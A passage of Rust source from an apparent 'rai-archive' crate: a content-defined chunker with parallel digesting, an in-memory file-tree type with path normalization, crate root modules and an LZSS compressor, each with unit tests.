/// would have produced.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ChunkManifest {
    /// Ordered chunk references.
    pub chunks: Vec<ChunkRef>,
    /// Total payload length (sum of all chunk lengths).
    pub total_len: u64,
    /// FNV-1a etag of the whole payload.
    pub etag: String,
}

impl ChunkManifest {
    /// Digests of every referenced chunk, in stream order (may contain
    /// duplicates if the payload repeats a chunk).
    pub fn digests(&self) -> Vec<u64> {
        self.chunks.iter().map(|c| c.digest).collect()
    }

    /// Modeled wire size of the manifest itself in a delta upload:
    /// a 16-byte header (total length + etag) plus 12 bytes per chunk
    /// reference (8-byte digest + 4-byte length).
    pub fn encoded_len(&self) -> u64 {
        16 + 12 * self.chunks.len() as u64
    }
}

/// Split `data` into content-defined chunks and build its manifest.
///
/// Deterministic: equal `(data, params)` always produces equal output.
/// Empty input yields an empty manifest (zero chunks) whose etag is
/// the FNV-1a etag of the empty string.
pub fn chunk_bytes(data: &[u8], params: ChunkerParams) -> (ChunkManifest, Vec<Chunk>) {
    let mask = params.mask();
    let mut refs = Vec::new();
    let mut chunks = Vec::new();
    let mut etag = Fnv1a::new();
    let mut start = 0usize;
    while start < data.len() {
        let cut = next_cut(data, start, params, mask);
        push_chunk(&data[start..cut], &mut refs, &mut chunks, &mut etag);
        start = cut;
    }
    let manifest = ChunkManifest {
        chunks: refs,
        total_len: data.len() as u64,
        // The stream etag was folded in chunk-by-chunk (FNV-1a streams),
        // saving the second whole-input pass `fnv::etag` would make.
        etag: format!("{:016x}", etag.digest()),
    };
    (manifest, chunks)
}

/// Find the end of the chunk starting at `start`: the single source of
/// boundary truth shared by [`chunk_bytes`] and [`chunk_bytes_on`], so
/// the parallel path cannot drift from the sequential one.
#[inline]
fn next_cut(data: &[u8], start: usize, params: ChunkerParams, mask: u64) -> usize {
    let end = data.len().min(start + params.max);
    // The first boundary test fires at len == min, i.e. after the
    // byte at start+min-1 folds in — so the first min-1 bytes only
    // accumulate the hash, no cut test. Splitting the loop this way
    // skips roughly half the boundary tests at the default
    // min=16/avg=32 without moving a single boundary.
    let test_from = data.len().min(start + params.min - 1);
    let mut hash = 0u64;
    for &b in &data[start..test_from] {
        hash = (hash << 1).wrapping_add(GEAR[b as usize]);
    }
    for (i, &b) in data[test_from..end].iter().enumerate() {
        hash = (hash << 1).wrapping_add(GEAR[b as usize]);
        // Test a mixed window of the hash rather than its raw low
        // bits: the shift-accumulate form leaves the low bits
        // dominated by the most recent table entries, so fold the
        // high half in.
        if (hash ^ (hash >> 32)) & mask == 0 {
            return test_from + i + 1;
        }
    }
    end
}

/// Payloads smaller than this stay on the sequential path even under a
/// pool executor: RAI containers are ~1 KiB, and for them the scope
/// bookkeeping would cost more than the digests it farms out. Large
/// payloads (dataset pushes, batched instructor exports) clear the bar
/// and split their digest work across workers.
pub const PAR_CHUNK_MIN_BYTES: usize = 32 * 1024;

/// [`chunk_bytes`] with the digest work routed onto `exec`.
///
/// Boundaries are found by the same sequential Gear scan (the rolling
/// hash is inherently order-dependent), then per-chunk FNV digests and
/// the whole-stream etag — the two passes that dominate — run as pool
/// tasks over batched chunk ranges, joined in input order. Output is
/// **byte-identical** to [`chunk_bytes`] for every input, executor,
/// and parallelism: same boundaries (shared cut scan), same digests
/// (pure per-chunk functions), same etag (whole-stream FNV equals the
/// chunk-by-chunk fold because chunks partition the stream in order).
pub fn chunk_bytes_on(
    exec: &Executor,
    data: &[u8],
    params: ChunkerParams,
) -> (ChunkManifest, Vec<Chunk>) {
    if exec.is_sequential() || data.len() < PAR_CHUNK_MIN_BYTES {
        return chunk_bytes(data, params);
    }
    let mask = params.mask();
    let mut bounds: Vec<Range<usize>> = Vec::new();
    let mut start = 0usize;
    while start < data.len() {
        let cut = next_cut(data, start, params, mask);
        bounds.push(start..cut);
        start = cut;
    }
    // One task per batch of chunk ranges plus one for the stream etag,
    // so the etag pass overlaps the digest passes instead of running
    // after them.
    enum Task {
        Etag,
        Digests(Range<usize>),
    }
    enum Out {
        Etag(String),
        Digests(Vec<(ChunkRef, Chunk)>),
    }
    let mut tasks = vec![Task::Etag];
    tasks.extend(
        rai_exec::batch_ranges(bounds.len(), exec.parallelism() * 4)
            .into_iter()
            .map(Task::Digests),
    );
    let outs = exec.par_map(tasks, |task| match task {
        Task::Etag => Out::Etag(fnv::etag(data)),
        Task::Digests(batch) => Out::Digests(
            bounds[batch]
                .iter()
                .map(|r| {
                    let slice = &data[r.clone()];
                    let digest = fnv::hash(slice);
                    (
                        ChunkRef {
                            digest,
                            len: slice.len() as u32,
                        },
                        Chunk {
                            digest,
                            data: Bytes::copy_from_slice(slice),
                        },
                    )
                })
                .collect(),
        ),
    });
    let mut refs = Vec::with_capacity(bounds.len());
    let mut chunks = Vec::with_capacity(bounds.len());
    let mut etag = String::new();
    for out in outs {
        match out {
            Out::Etag(e) => etag = e,
            Out::Digests(batch) => {
                for (r, c) in batch {
                    refs.push(r);
                    chunks.push(c);
                }
            }
        }
    }
    let manifest = ChunkManifest {
        chunks: refs,
        total_len: data.len() as u64,
        etag,
    };
    (manifest, chunks)
}

fn push_chunk(slice: &[u8], refs: &mut Vec<ChunkRef>, chunks: &mut Vec<Chunk>, etag: &mut Fnv1a) {
    let digest = fnv::hash(slice);
    etag.update(slice);
    refs.push(ChunkRef {
        digest,
        len: slice.len() as u32,
    });
    chunks.push(Chunk {
        digest,
        data: Bytes::copy_from_slice(slice),
    });
}

/// Reassemble a payload from its manifest and a chunk lookup.
///
/// `lookup` maps a digest to that chunk's bytes; returns `None` if any
/// referenced chunk is missing or a length disagrees with the
/// manifest.
pub fn assemble(
    manifest: &ChunkManifest,
    mut lookup: impl FnMut(u64) -> Option<Bytes>,
) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(manifest.total_len as usize);
    for r in &manifest.chunks {
        let data = lookup(r.digest)?;
        if data.len() as u32 != r.len {
            return None;
        }
        out.extend_from_slice(&data);
    }
    if out.len() as u64 != manifest.total_len {
        return None;
    }
    Some(out)
}

/// Incremental whole-stream etag helper for callers that chunk and
/// hash in one pass (not used by [`chunk_bytes`], which has the full
/// slice in hand, but part of the public surface so stores can verify
/// reassembled streams cheaply).
pub fn stream_etag<'a>(parts: impl IntoIterator<Item = &'a [u8]>) -> String {
    let mut h = Fnv1a::new();
    for p in parts {
        h.update(p);
    }
    format!("{:016x}", h.digest())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(len: usize, seed: u64) -> Vec<u8> {
        // Simple deterministic byte stream with enough entropy to
        // exercise content-defined boundaries.
        let mut state = seed;
        (0..len)
            .map(|_| {
                state = splitmix64(state);
                (state >> 24) as u8
            })
            .collect()
    }

    #[test]
    fn empty_input_yields_empty_manifest() {
        let (m, chunks) = chunk_bytes(b"", ChunkerParams::DEFAULT);
        assert!(m.chunks.is_empty());
        assert!(chunks.is_empty());
        assert_eq!(m.total_len, 0);
        assert_eq!(m.etag, fnv::etag(b""));
    }

    #[test]
    fn reassembly_matches_input() {
        let data = sample(20_000, 7);
        let (m, chunks) = chunk_bytes(&data, ChunkerParams::DEFAULT);
        let map: std::collections::BTreeMap<u64, Bytes> =
            chunks.iter().map(|c| (c.digest, c.data.clone())).collect();
        let back = assemble(&m, |d| map.get(&d).cloned()).unwrap();
        assert_eq!(back, data);
        assert_eq!(m.etag, fnv::etag(&data));
    }

    #[test]
    fn chunk_sizes_respect_bounds() {
        let data = sample(50_000, 11);
        let p = ChunkerParams::DEFAULT;
        let (m, _) = chunk_bytes(&data, p);
        assert!(m.chunks.len() > 1, "expected multiple chunks");
        for (i, c) in m.chunks.iter().enumerate() {
            assert!(c.len as usize <= p.max, "chunk {i} over max");
            if i + 1 < m.chunks.len() {
                assert!(c.len as usize >= p.min, "non-final chunk {i} under min");
            }
        }
    }

    #[test]
    fn same_input_same_manifest() {
        let data = sample(10_000, 3);
        let (a, _) = chunk_bytes(&data, ChunkerParams::DEFAULT);
        let (b, _) = chunk_bytes(&data, ChunkerParams::DEFAULT);
        assert_eq!(a, b);
    }

    #[test]
    fn local_edit_preserves_most_chunks() {
        let base = sample(30_000, 21);
        let mut edited = base.clone();
        edited[15_000] ^= 0xA5;
        let (a, _) = chunk_bytes(&base, ChunkerParams::DEFAULT);
        let (b, _) = chunk_bytes(&edited, ChunkerParams::DEFAULT);
        let before: std::collections::BTreeSet<u64> = a.digests().into_iter().collect();
        let changed = b
            .digests()
            .into_iter()
            .filter(|d| !before.contains(d))
            .count();
        // One flipped byte must not churn more than a handful of
        // chunks: the byte's hash contribution is shifted out after 64
        // positions, so with ~32-byte mean chunks the blast radius is
        // the edited chunk plus a few neighbors — never the tail of
        // the stream.
        assert!(changed <= 8, "edit churned {changed} chunks");
        assert!(
            changed < b.chunks.len() / 10,
            "edit churned {changed} of {} chunks",
            b.chunks.len()
        );
    }

    #[test]
    fn assemble_rejects_missing_or_short_chunks() {
        let data = sample(5_000, 9);
        let (m, chunks) = chunk_bytes(&data, ChunkerParams::DEFAULT);
        assert_eq!(assemble(&m, |_| None), None);
        let truncated = Bytes::copy_from_slice(&chunks[0].data[..1]);
        assert_eq!(assemble(&m, |_| Some(truncated.clone())), None);
    }

    #[test]
    fn parallel_chunking_is_byte_identical() {
        // The determinism gate in miniature: every executor shape must
        // produce the exact manifest+chunks the sequential path does,
        // above and below the parallel threshold.
        for len in [0, 1, 1_000, PAR_CHUNK_MIN_BYTES, 200_000] {
            let data = sample(len, 13);
            let (seq_m, seq_c) = chunk_bytes(&data, ChunkerParams::DEFAULT);
            for threads in [1, 2, 8] {
                let exec = Executor::new(threads);
                let (m, c) = chunk_bytes_on(&exec, &data, ChunkerParams::DEFAULT);
                assert_eq!(m, seq_m, "manifest drift at len={len} threads={threads}");
                assert_eq!(c, seq_c, "chunk drift at len={len} threads={threads}");
            }
        }
    }

    #[test]
    fn stream_etag_matches_whole_etag() {
        let data = sample(4_096, 5);
        let (m, chunks) = chunk_bytes(&data, ChunkerParams::DEFAULT);
        let parts: Vec<&[u8]> = chunks.iter().map(|c| &c.data[..]).collect();
        assert_eq!(stream_etag(parts), m.etag);
        assert_eq!(m.etag, fnv::etag(&data));
    }
}
