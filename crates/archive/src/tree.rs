//! [`FileTree`] — the in-memory directory tree used everywhere a real
//! deployment would touch a filesystem: the student's project directory,
//! the container's `/src` and `/build` mounts, and unpacked submissions
//! on the grader's machine.

use bytes::Bytes;
use std::collections::BTreeMap;

/// Normalized, ordered path → file contents map. Directories are
/// implicit (a file at `src/main.cu` implies `src/`). Paths are
/// `/`-separated, relative, with no `.`/`..` components.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct FileTree {
    files: BTreeMap<String, Bytes>,
}

/// Error inserting an invalid path.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct InvalidPath(pub String);

impl std::fmt::Display for InvalidPath {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "invalid path: {:?}", self.0)
    }
}

impl std::error::Error for InvalidPath {}

/// Validate and normalize a path: strips a leading `/`, rejects empty
/// paths, `.`/`..` components, backslashes and empty components.
pub fn normalize(path: &str) -> Result<String, InvalidPath> {
    let trimmed = path.strip_prefix('/').unwrap_or(path);
    if trimmed.is_empty() {
        return Err(InvalidPath(path.to_string()));
    }
    let mut parts = Vec::new();
    for comp in trimmed.split('/') {
        match comp {
            "" | "." | ".." => return Err(InvalidPath(path.to_string())),
            c if c.contains('\\') || c.contains('\0') => {
                return Err(InvalidPath(path.to_string()))
            }
            c => parts.push(c),
        }
    }
    Ok(parts.join("/"))
}

impl FileTree {
    /// An empty tree.
    pub fn new() -> Self {
        Self::default()
    }

    /// Insert (or overwrite) a file. The path is normalized; invalid
    /// paths (empty, traversal, absolute-only) are rejected.
    pub fn insert(&mut self, path: &str, data: impl Into<Bytes>) -> Result<(), InvalidPath> {
        let norm = normalize(path)?;
        self.files.insert(norm, data.into());
        Ok(())
    }

    /// Builder-style insert for test/demo construction; panics on an
    /// invalid path.
    pub fn with(mut self, path: &str, data: impl Into<Bytes>) -> Self {
        self.insert(path, data).expect("valid path in builder");
        self
    }

    /// Fetch a file's contents.
    pub fn get(&self, path: &str) -> Option<&Bytes> {
        let norm = normalize(path).ok()?;
        self.files.get(&norm)
    }

    /// Whether a file exists at `path`.
    pub fn contains(&self, path: &str) -> bool {
        self.get(path).is_some()
    }

    /// Remove a file, returning its contents if present.
    pub fn remove(&mut self, path: &str) -> Option<Bytes> {
        let norm = normalize(path).ok()?;
        self.files.remove(&norm)
    }

    /// Remove every file under the directory prefix `dir` (e.g. `"build"`
    /// removes `build/a` and `build/x/y`). Returns how many were removed.
    pub fn remove_dir(&mut self, dir: &str) -> usize {
        let Ok(norm) = normalize(dir) else { return 0 };
        let prefix = format!("{norm}/");
        let doomed: Vec<String> = self
            .files
            .keys()
            .filter(|k| k.starts_with(&prefix) || **k == norm)
            .cloned()
            .collect();
        for k in &doomed {
            self.files.remove(k);
        }
        doomed.len()
    }

    /// Number of files.
    pub fn len(&self) -> usize {
        self.files.len()
    }

    /// Whether the tree has no files.
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// Sum of file sizes in bytes.
    pub fn total_size(&self) -> u64 {
        self.files.values().map(|b| b.len() as u64).sum()
    }

    /// Iterate `(path, contents)` in path order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &Bytes)> {
        self.files.iter().map(|(k, v)| (k.as_str(), v))
    }

    /// Paths in order.
    pub fn paths(&self) -> impl Iterator<Item = &str> {
        self.files.keys().map(|k| k.as_str())
    }

    /// A sub-tree of all files under `dir`, with the prefix stripped.
    pub fn subtree(&self, dir: &str) -> FileTree {
        let mut out = FileTree::new();
        let Ok(norm) = normalize(dir) else { return out };
        let prefix = format!("{norm}/");
        for (k, v) in &self.files {
            if let Some(rest) = k.strip_prefix(&prefix) {
                out.files.insert(rest.to_string(), v.clone());
            }
        }
        out
    }

    /// Graft `other` into this tree under the directory `dir`
    /// (the inverse of [`FileTree::subtree`]): `mount("src", t)` places
    /// `t`'s `main.cu` at `src/main.cu`.
    pub fn mount(&mut self, dir: &str, other: &FileTree) -> Result<(), InvalidPath> {
        let norm = normalize(dir)?;
        for (k, v) in &other.files {
            self.files.insert(format!("{norm}/{k}"), v.clone());
        }
        Ok(())
    }

    /// Files whose path matches a simple suffix pattern (e.g. `".cu"`).
    pub fn with_suffix<'a>(&'a self, suffix: &'a str) -> impl Iterator<Item = (&'a str, &'a Bytes)> {
        self.iter().filter(move |(p, _)| p.ends_with(suffix))
    }
}

impl FileTree {
    /// Load a real directory from disk (the client's step ① on a
    /// student machine). Hidden entries (`.git`, `.rai.profile`) and
    /// `target/` build directories are skipped, like the real client's
    /// upload filter.
    pub fn from_disk(root: &std::path::Path) -> std::io::Result<FileTree> {
        fn walk(
            root: &std::path::Path,
            dir: &std::path::Path,
            tree: &mut FileTree,
        ) -> std::io::Result<()> {
            for entry in std::fs::read_dir(dir)? {
                let entry = entry?;
                let name = entry.file_name();
                let name = name.to_string_lossy();
                if name.starts_with('.') || name == "target" {
                    continue;
                }
                let path = entry.path();
                if entry.file_type()?.is_dir() {
                    walk(root, &path, tree)?;
                } else if entry.file_type()?.is_file() {
                    let rel = path
                        .strip_prefix(root)
                        .expect("walked paths are under root")
                        .to_string_lossy()
                        .replace(std::path::MAIN_SEPARATOR, "/");
                    let data = std::fs::read(&path)?;
                    tree.insert(&rel, data).map_err(|e| {
                        std::io::Error::new(std::io::ErrorKind::InvalidData, e.to_string())
                    })?;
                }
            }
            Ok(())
        }
        let mut tree = FileTree::new();
        walk(root, root, &mut tree)?;
        Ok(tree)
    }

    /// Write the tree out to a real directory (the grader's un-archive
    /// step). Creates intermediate directories as needed.
    pub fn to_disk(&self, root: &std::path::Path) -> std::io::Result<()> {
        for (path, data) in self.iter() {
            let full = root.join(path);
            if let Some(parent) = full.parent() {
                std::fs::create_dir_all(parent)?;
            }
            std::fs::write(full, data)?;
        }
        Ok(())
    }
}

impl FromIterator<(String, Bytes)> for FileTree {
    fn from_iter<T: IntoIterator<Item = (String, Bytes)>>(iter: T) -> Self {
        let mut t = FileTree::new();
        for (k, v) in iter {
            t.insert(&k, v).expect("valid path in FromIterator");
        }
        t
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalize_paths() {
        assert_eq!(normalize("/src/main.cu").unwrap(), "src/main.cu");
        assert_eq!(normalize("a/b").unwrap(), "a/b");
        assert!(normalize("").is_err());
        assert!(normalize("/").is_err());
        assert!(normalize("a/../b").is_err());
        assert!(normalize("./a").is_err());
        assert!(normalize("a//b").is_err());
        assert!(normalize("a\\b").is_err());
    }

    #[test]
    fn insert_get_overwrite() {
        let mut t = FileTree::new();
        t.insert("main.cu", &b"v1"[..]).unwrap();
        t.insert("/main.cu", &b"v2"[..]).unwrap();
        assert_eq!(t.get("main.cu").unwrap().as_ref(), b"v2");
        assert_eq!(t.len(), 1);
        assert_eq!(t.total_size(), 2);
    }

    #[test]
    fn remove_dir_prefix_only() {
        let mut t = FileTree::new()
            .with("build/a.o", &b"x"[..])
            .with("build/deep/b.o", &b"y"[..])
            .with("builder", &b"z"[..]);
        assert_eq!(t.remove_dir("build"), 2);
        assert!(t.contains("builder"), "sibling with shared name prefix survives");
    }

    #[test]
    fn subtree_and_mount_are_inverses() {
        let project = FileTree::new()
            .with("src/main.cu", &b"kernel"[..])
            .with("src/util/helper.h", &b"h"[..])
            .with("report.pdf", &b"pdf"[..]);
        let src = project.subtree("src");
        assert_eq!(src.len(), 2);
        assert_eq!(src.get("main.cu").unwrap().as_ref(), b"kernel");

        let mut container = FileTree::new();
        container.mount("src", &src).unwrap();
        assert_eq!(container.get("src/util/helper.h").unwrap().as_ref(), b"h");
    }

    #[test]
    fn iteration_is_ordered() {
        let t = FileTree::new()
            .with("z", &b""[..])
            .with("a", &b""[..])
            .with("m/n", &b""[..]);
        let paths: Vec<&str> = t.paths().collect();
        assert_eq!(paths, vec!["a", "m/n", "z"]);
    }

    #[test]
    fn suffix_filter() {
        let t = FileTree::new()
            .with("a.cu", &b""[..])
            .with("b.cpp", &b""[..])
            .with("dir/c.cu", &b""[..]);
        assert_eq!(t.with_suffix(".cu").count(), 2);
    }

    #[test]
    fn disk_round_trip() {
        let dir = std::env::temp_dir().join(format!("rai-tree-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let tree = FileTree::new()
            .with("rai-build.yml", &b"rai:\n  version: 0.1\n"[..])
            .with("src/main.cu", &b"kernel"[..])
            .with("src/deep/util.h", &b"h"[..]);
        tree.to_disk(&dir).expect("write tree");
        // Drop in noise that the loader must skip.
        std::fs::create_dir_all(dir.join(".git")).expect("mkdir");
        std::fs::write(dir.join(".git/HEAD"), b"ref").expect("write");
        std::fs::write(dir.join(".rai.profile"), b"secret").expect("write");
        std::fs::create_dir_all(dir.join("target")).expect("mkdir");
        std::fs::write(dir.join("target/junk.o"), b"obj").expect("write");
        let back = FileTree::from_disk(&dir).expect("read tree");
        assert_eq!(back, tree, "hidden files and target/ skipped");
        std::fs::remove_dir_all(&dir).expect("cleanup");
    }

    #[test]
    fn from_iterator() {
        let t: FileTree = vec![("a".to_string(), Bytes::from_static(b"1"))]
            .into_iter()
            .collect();
        assert!(t.contains("a"));
    }
}
