//! # rai-archive — project archives (the paper's `.tar.bz2` path)
//!
//! When a student submits a job, the RAI client "compresses the project
//! directory into a `.tar.bz2` file and uploads it to the file server"
//! (paper §V); the worker does the same for `/build` on the way back.
//! This crate reproduces that path from scratch:
//!
//! * [`tree`] — [`FileTree`], the in-memory directory-tree model shared
//!   by the client (project dir), the sandbox (mounted volumes) and the
//!   grading tools (downloaded submissions).
//! * [`fnv`] — FNV-1a hashing used for content checksums.
//! * [`lzss`] — an LZ77-family compressor (LZSS: 4 KiB sliding window,
//!   3–18 byte matches, 8-token flag bytes) standing in for bzip2.
//! * [`container`] — the tar-like entry container with per-entry and
//!   whole-archive checksums.
//! * [`bundle`] — the top-level [`pack`]/[`unpack`] API: container +
//!   compression in one call, like `tar cjf` / `tar xjf`.

pub mod bundle;
pub mod container;
pub mod fnv;
pub mod lzss;
pub mod tree;

pub use bundle::{pack, unpack, Bundle};
pub use container::{ArchiveError, Entry, EntryKind};
pub use tree::FileTree;
