//! # rai-archive — project archives (the paper's `.tar.bz2` path)
//!
//! When a student submits a job, the RAI client "compresses the project
//! directory into a `.tar.bz2` file and uploads it to the file server"
//! (paper §V); the worker does the same for `/build` on the way back.
//! This crate reproduces that path from scratch:
//!
//! * [`tree`] — [`FileTree`], the in-memory directory-tree model shared
//!   by the client (project dir), the sandbox (mounted volumes) and the
//!   grading tools (downloaded submissions).
//! * [`fnv`] — FNV-1a hashing used for content checksums.
//! * [`lzss`] — an LZ77-family compressor (LZSS: 4 KiB sliding window,
//!   3–18 byte matches, 8-token flag bytes) standing in for bzip2.
//! * [`container`] — the tar-like entry container with per-entry and
//!   whole-archive checksums.
//! * [`bundle`] — the top-level [`pack`]/[`unpack`] API: container +
//!   compression in one call, like `tar cjf` / `tar xjf` — plus
//!   format-sniffing [`restore`], which accepts both compressed
//!   bundles and raw containers.
//! * [`chunk`] — the content-defined chunker (Gear rolling hash) and
//!   [`ChunkManifest`] behind the store's dedup and delta uploads
//!   (DESIGN.md §10).

pub mod bundle;
pub mod chunk;
pub mod container;
pub mod fnv;
pub mod lzss;
pub mod tree;

pub use bundle::{pack, restore, unpack, Bundle};
pub use chunk::{chunk_bytes, Chunk, ChunkManifest, ChunkRef, ChunkerParams};
pub use container::{read_container, write_container, ArchiveError, Entry, EntryKind};
pub use tree::FileTree;
