//! LZSS compression — the stand-in for bzip2 on the upload path.
//!
//! Format: a 13-byte header (`magic`, `u64` original length), then groups
//! of eight tokens preceded by a flag byte (bit *i* set ⇒ token *i* is a
//! literal). A literal is one raw byte; a match is two bytes encoding a
//! 12-bit backward distance (1-based) and a 4-bit length (3..=18).
//!
//! The encoder uses a chained hash table over 3-byte prefixes, giving
//! O(n) compression with bounded chain walks — fast enough that the
//! archive benches compress megabytes of synthetic project trees per
//! millisecond-scale iteration.

pub(crate) const MAGIC: &[u8; 5] = b"RAIZ1";
const WINDOW: usize = 1 << 12; // 4 KiB sliding window (12-bit distance)
const MIN_MATCH: usize = 3;
const MAX_MATCH: usize = 18; // MIN_MATCH + 15 (4-bit length field)
const MAX_CHAIN: usize = 64; // bounded chain walk per position

/// Error decompressing a buffer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum LzssError {
    /// Missing or wrong magic/header.
    BadHeader,
    /// Stream ended mid-token or mid-header.
    Truncated,
    /// A match referred back before the start of output.
    BadDistance,
    /// Output length disagreed with the header.
    LengthMismatch { expected: u64, actual: u64 },
}

impl std::fmt::Display for LzssError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LzssError::BadHeader => write!(f, "lzss: bad header"),
            LzssError::Truncated => write!(f, "lzss: truncated stream"),
            LzssError::BadDistance => write!(f, "lzss: match distance outside window"),
            LzssError::LengthMismatch { expected, actual } => {
                write!(f, "lzss: expected {expected} bytes, produced {actual}")
            }
        }
    }
}

impl std::error::Error for LzssError {}

fn key3(data: &[u8], i: usize) -> usize {
    // 3-byte rolling key into the hash-head table (Knuth multiplicative
    // hash in 32 bits, top 15 bits kept).
    let v = (data[i] as u32) << 16 | (data[i + 1] as u32) << 8 | data[i + 2] as u32;
    (v.wrapping_mul(2654435761) >> 17) as usize
}

const HASH_SIZE: usize = 1 << 15;

/// Compress `data`. Output always starts with the LZSS header; even an
/// empty input produces a valid (header-only) stream.
pub fn compress(data: &[u8]) -> Vec<u8> {
    // Worst case (incompressible input) is 1 flag byte per 8 literals
    // plus the header — size for that so pathological inputs don't pay
    // a mid-stream regrow.
    let mut out = Vec::with_capacity(data.len() + data.len() / 8 + 16);
    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&(data.len() as u64).to_le_bytes());

    // head[h] = most recent position with hash h; prev[i % WINDOW] = previous
    // position with the same hash, forming per-hash chains.
    let mut head = vec![usize::MAX; HASH_SIZE];
    let mut prev = vec![usize::MAX; WINDOW];

    let mut i = 0;
    let mut flag_pos = out.len();
    out.push(0);
    let mut flag_bit = 0u8;
    let mut flags = 0u8;

    macro_rules! finish_group_if_full {
        () => {
            if flag_bit == 8 {
                out[flag_pos] = flags;
                flag_pos = out.len();
                out.push(0);
                flags = 0;
                flag_bit = 0;
            }
        };
    }

    while i < data.len() {
        let mut best_len = 0usize;
        let mut best_dist = 0usize;
        // key3 at the current position, shared by the match search and
        // the chain insertion below (None past the last 3-byte prefix).
        let h_here = (i + MIN_MATCH <= data.len()).then(|| key3(data, i));
        if let Some(h) = h_here {
            let max_len = MAX_MATCH.min(data.len() - i);
            let mut cand = head[h];
            let mut chain = 0;
            while cand != usize::MAX && chain < MAX_CHAIN {
                if i - cand > WINDOW {
                    break;
                }
                // Nothing can beat a match already at the length cap
                // (also keeps the probe below in bounds near the end).
                if best_len >= max_len {
                    break;
                }
                // A candidate can only beat best_len if it matches at
                // offset best_len too, so reject on that single byte
                // before paying for the full prefix compare. (A
                // candidate failing there matches at most best_len
                // bytes and `best` only updates on strictly greater.)
                if best_len > 0 && data[cand + best_len] != data[i + best_len] {
                    cand = prev[cand % WINDOW];
                    chain += 1;
                    continue;
                }
                let mut l = 0;
                while l < max_len && data[cand + l] == data[i + l] {
                    l += 1;
                }
                if l > best_len {
                    best_len = l;
                    best_dist = i - cand;
                    if l == MAX_MATCH {
                        break;
                    }
                }
                cand = prev[cand % WINDOW];
                chain += 1;
            }
        }

        if best_len >= MIN_MATCH {
            // Match token: 12-bit distance-1, 4-bit length-MIN_MATCH.
            let d = (best_dist - 1) as u16;
            let l = (best_len - MIN_MATCH) as u16;
            let token = (d << 4) | l;
            out.extend_from_slice(&token.to_le_bytes());
            // Insert every covered position into the chains so later
            // matches can refer inside this match. The first position
            // reuses the key already computed for the search.
            let end = i + best_len;
            if let Some(h) = h_here {
                prev[i % WINDOW] = head[h];
                head[h] = i;
            }
            i += 1;
            while i < end {
                if i + MIN_MATCH <= data.len() {
                    let h = key3(data, i);
                    prev[i % WINDOW] = head[h];
                    head[h] = i;
                }
                i += 1;
            }
        } else {
            flags |= 1 << flag_bit;
            out.push(data[i]);
            if let Some(h) = h_here {
                prev[i % WINDOW] = head[h];
                head[h] = i;
            }
            i += 1;
        }
        flag_bit += 1;
        finish_group_if_full!();
    }
    out[flag_pos] = flags;
    // A trailing empty flag byte (flag_bit == 0 at end) is harmless: the
    // decoder stops once the declared length is reached.
    out
}

/// Decompress a buffer produced by [`compress`].
pub fn decompress(stream: &[u8]) -> Result<Vec<u8>, LzssError> {
    if stream.len() < MAGIC.len() || &stream[..MAGIC.len()] != MAGIC {
        return Err(LzssError::BadHeader);
    }
    if stream.len() < MAGIC.len() + 8 {
        return Err(LzssError::Truncated);
    }
    let mut len_bytes = [0u8; 8];
    len_bytes.copy_from_slice(&stream[MAGIC.len()..MAGIC.len() + 8]);
    let expected = u64::from_le_bytes(len_bytes);
    // The header is untrusted: a corrupted length must not drive a huge
    // allocation. Each compressed byte expands to at most MAX_MATCH
    // output bytes, so anything beyond that bound is already bogus.
    let max_possible = (stream.len() as u64).saturating_mul(MAX_MATCH as u64);
    if expected > max_possible {
        return Err(LzssError::Truncated);
    }
    let mut out: Vec<u8> = Vec::with_capacity(expected as usize);

    let mut pos = MAGIC.len() + 8;
    'outer: while (out.len() as u64) < expected {
        if pos >= stream.len() {
            return Err(LzssError::Truncated);
        }
        let flags = stream[pos];
        pos += 1;
        for bit in 0..8 {
            if out.len() as u64 == expected {
                break 'outer;
            }
            if flags & (1 << bit) != 0 {
                // Literal.
                let &b = stream.get(pos).ok_or(LzssError::Truncated)?;
                out.push(b);
                pos += 1;
            } else {
                // Match.
                if pos + 1 >= stream.len() {
                    return Err(LzssError::Truncated);
                }
                let token = u16::from_le_bytes([stream[pos], stream[pos + 1]]);
                pos += 2;
                let dist = (token >> 4) as usize + 1;
                let len = (token & 0xF) as usize + MIN_MATCH;
                if dist > out.len() {
                    return Err(LzssError::BadDistance);
                }
                let start = out.len() - dist;
                if dist >= len {
                    // Source and destination don't overlap: one memcpy.
                    out.extend_from_within(start..start + len);
                } else {
                    // Overlapping self-reference (e.g. run-length): the
                    // copy must observe bytes it just produced.
                    for k in 0..len {
                        let b = out[start + k];
                        out.push(b);
                    }
                }
            }
        }
    }
    if out.len() as u64 != expected {
        return Err(LzssError::LengthMismatch {
            expected,
            actual: out.len() as u64,
        });
    }
    Ok(out)
}

/// Compression ratio (compressed / original); 1.0 for empty input.
pub fn ratio(original: &[u8], compressed: &[u8]) -> f64 {
    if original.is_empty() {
        1.0
    } else {
        compressed.len() as f64 / original.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn round_trip(data: &[u8]) -> Vec<u8> {
        let c = compress(data);
        decompress(&c).expect("round trip")
    }

    #[test]
    fn empty() {
        assert_eq!(round_trip(b""), b"");
    }

    #[test]
    fn short_literals() {
        assert_eq!(round_trip(b"a"), b"a");
        assert_eq!(round_trip(b"ab"), b"ab");
        assert_eq!(round_trip(b"abc"), b"abc");
    }

    #[test]
    fn repetitive_input_compresses() {
        let data = b"make && ./ece408 /data/test10.hdf5 /data/model.hdf5\n".repeat(200);
        let c = compress(&data);
        assert_eq!(decompress(&c).unwrap(), data);
        assert!(
            c.len() < data.len() / 4,
            "expected >4x on repetitive text, got {} -> {}",
            data.len(),
            c.len()
        );
    }

    #[test]
    fn source_code_like_input() {
        let src = include_str!("lzss.rs").as_bytes();
        let c = compress(src);
        assert_eq!(decompress(&c).unwrap(), src);
        assert!(c.len() < src.len(), "source code should compress");
